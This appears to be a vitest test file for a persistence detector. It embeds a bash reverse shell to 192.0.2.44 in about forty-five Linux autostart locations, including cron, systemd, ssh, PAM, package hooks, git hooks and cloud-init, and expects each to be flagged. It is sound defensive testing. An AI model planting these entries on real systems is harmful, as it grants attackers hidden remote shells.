import { expect, test } from 'vitest';
import type { ExampleFiles } from '../../detectors/detector.ts';
import { script } from '../../testing/starts-of.ts';
import { writeTar } from '../../testing/tar-writer.ts';
import { traceOf } from '../../testing/trace-of.ts';

/** A shell on a socket, in words that fit one line of any settings. */
const shell = 'bash -i >& /dev/tcp/192.0.2.44/4444 0>&1';
const file = script(shell);
const wrapped = `/bin/bash -c '${shell}'`;
const python = `import os\nos.system("bash -c '${shell}'")\n`;

/** The same payload in every place that waits for somebody: each must be seen as one that waits. */
const places: readonly (readonly [string, ExampleFiles])[] = [
  ['/etc/crontab', { '/etc/crontab': `* * * * * root ${shell}\n` }],
  ['a spool of at', { '/var/spool/cron/atjobs/a0000101b2c3d4': `#!/bin/sh\n${shell}\n` }],
  ['/etc/rc.local', { '/etc/rc.local': file }],
  ['an init script', { '/etc/init.d/x': file, '/etc/rc3.d/S01x': { link: '../init.d/x' } }],
  [
    'an OpenRC service',
    {
      '/etc/init.d/x': script(`#!/sbin/openrc-run\nstart() {\n  ${shell}\n}\n`),
      '/etc/runlevels/default/x': { link: '/etc/init.d/x' },
    },
  ],
  ['s6 version 2', { '/etc/services.d/x/run': file }],
  [
    's6 version 3, execline',
    {
      '/etc/s6-overlay/s6-rc.d/x/run': script(`#!/command/execlineb -P\nforeground { echo }\nbash -c "${shell}"\n`),
      '/etc/s6-overlay/s6-rc.d/user/contents.d/x': '',
    },
  ],
  ['runit', { '/etc/service/x/run': file }],
  ['supervisord', { '/etc/supervisor/conf.d/x.conf': `[program:x]\ncommand=${wrapped}\n` }],
  [
    'a systemd service',
    {
      '/etc/systemd/system/x.service': `[Service]\nExecStart=${wrapped}\n`,
      '/etc/systemd/system/multi-user.target.wants/x.service': { link: '../x.service' },
    },
  ],
  [
    'a drop-in',
    {
      '/usr/lib/systemd/system/x.service': '[Service]\nExecStart=/x\n',
      '/etc/systemd/system/x.service.d/y.conf': `[Service]\nExecStartPost=${wrapped}\n`,
      '/etc/systemd/system/a.target.wants/x.service': { link: '/usr/lib/systemd/system/x.service' },
    },
  ],
  ['a generator', { '/etc/systemd/system-generators/x': file }],
  ['inetd', { '/etc/inetd.conf': `x stream tcp nowait root /bin/bash bash -c '${shell}'\n` }],
  ['.bashrc', { '/root/.bashrc': `${shell}\n` }],
  ['profile.d', { '/etc/profile.d/x.sh': `${shell}\n` }],
  ['.zshenv', { '/home/u/.zshenv': `${shell}\n` }],
  ['ssh rc', { '/root/.ssh/rc': `${shell}\n` }],
  ['ForceCommand', { '/etc/ssh/sshd_config': `ForceCommand ${wrapped}\n` }],
  ['a key with a command', { '/root/.ssh/authorized_keys': `command="${shell}" ssh-ed25519 AAAA x\n` }],
  ['ProxyCommand', { '/root/.ssh/config': `Host *\n ProxyCommand ${shell}\n` }],
  ['pam_exec', { '/etc/pam.d/login': `session optional pam_exec.so ${wrapped}\n` }],
  ['motd', { '/etc/update-motd.d/99': file }],
  ['sitecustomize', { '/usr/lib/python3/dist-packages/sitecustomize.py': python }],
  ['a .pth line', { '/usr/lib/python3/dist-packages/x.pth': `import os; os.system("bash -c '${shell}'")\n` }],
  ['udev', { '/etc/udev/rules.d/9.rules': `ACTION=="add", RUN+="${wrapped}"\n` }],
  ['NetworkManager', { '/etc/NetworkManager/dispatcher.d/9': file }],
  ['DHCP', { '/etc/dhcp/dhclient-exit-hooks.d/x': `${shell}\n` }],
  ['logrotate', { '/etc/logrotate.d/x': `/x {\n postrotate\n ${shell}\n endscript\n}\n` }],
  ['an alias of mail', { '/etc/aliases': `x: "|${wrapped}"\n` }],
  ['autostart', { '/etc/xdg/autostart/x.desktop': `[Desktop Entry]\nExec=${wrapped}\n` }],
  ['modprobe', { '/etc/modprobe.d/x.conf': `install y ${shell}\n` }],
  ['a maintainer script', { '/var/lib/dpkg/info/x.postinst': file }],
  ['an apt hook', { '/etc/apt/apt.conf.d/9': `APT::Update::Pre-Invoke {"${wrapped}";};\n` }],
  [
    "apk's scripts",
    { '/lib/apk/db/scripts.tar': writeTar([{ path: 'a.post-install', content: `#!/bin/bash\n${shell}\n` }]) },
  ],
  ['a pacman hook', { '/usr/share/libalpm/hooks/x.hook': `[Action]\nExec=${wrapped}\n` }],
  ['a plug-in of dnf', { '/usr/lib/python3.9/site-packages/dnf-plugins/x.py': python }],
  ['a git hook', { '/app/.git/hooks/post-merge': file }],
  ['fsmonitor', { '/app/.git/config': `[core]\n fsmonitor = "${shell}"\n` }],
  ['npm postinstall', { '/app/package.json': JSON.stringify({ scripts: { postinstall: wrapped } }) }],
  ['setup.py', { '/app/setup.py': python }],
  ['a CGI program', { '/usr/lib/cgi-bin/x': file }],
  ['a dev container', { '/w/.devcontainer/devcontainer.json': JSON.stringify({ postCreateCommand: wrapped }) }],
  ['cloud-init', { '/var/lib/cloud/seed/user-data': `#cloud-config\nruncmd:\n - ${wrapped}\n` }],
  [
    'a static pod',
    {
      '/etc/kubernetes/manifests/x.yaml': `apiVersion: v1\nkind: Pod\nspec:\n  containers:\n  - image: x\n    command: ["bash", "-c", "${shell}"]\n`,
    },
  ],
];

test.each(places)('%s', async (_name, files) => {
  const story = await traceOf({ cmd: ['/usr/bin/app'], files });
  const reaches = story.effects
    .filter((effect) => effect.kind === 'connect' && effect.shell !== undefined)
    .map((effect) => story.stages[effect.stage]?.reach);
  expect(reaches).toContain('armed');
  expect(story.gaps).toEqual([]);
});

/** The same files where nothing looks for them: they lie there, nothing more. */
test.each<readonly [string, ExampleFiles]>([
  ['a table in a folder of examples', { '/usr/share/doc/x/crontab': `* * * * * root ${shell}\n` }],
  ['a unit that nothing wants', { '/etc/systemd/system/x.service': `[Service]\nExecStart=${wrapped}\n` }],
  ['an init script that is not linked', { '/etc/init.d/x': file }],
  ['a sample of a hook', { '/app/.git/hooks/post-merge.sample': file }],
  [
    'an installed package',
    { '/app/node_modules/x/package.json': JSON.stringify({ scripts: { postinstall: wrapped } }) },
  ],
  ['a Dockerfile', { '/app/Dockerfile': `FROM x\nRUN ${wrapped}\n` }],
  [
    'a motd script that may not be executed',
    { '/etc/update-motd.d/9': { content: `#!/bin/bash\n${shell}\n`, mode: 0o644 } },
  ],
])('not armed: %s', async (_name, files) => {
  const story = await traceOf({ cmd: ['/usr/bin/app'], files });
  const reaches = new Set(
    story.effects.filter((effect) => effect.kind === 'connect').map((effect) => story.stages[effect.stage]?.reach),
  );
  expect([...reaches].filter((reach) => reach !== 'present')).toEqual([]);
});
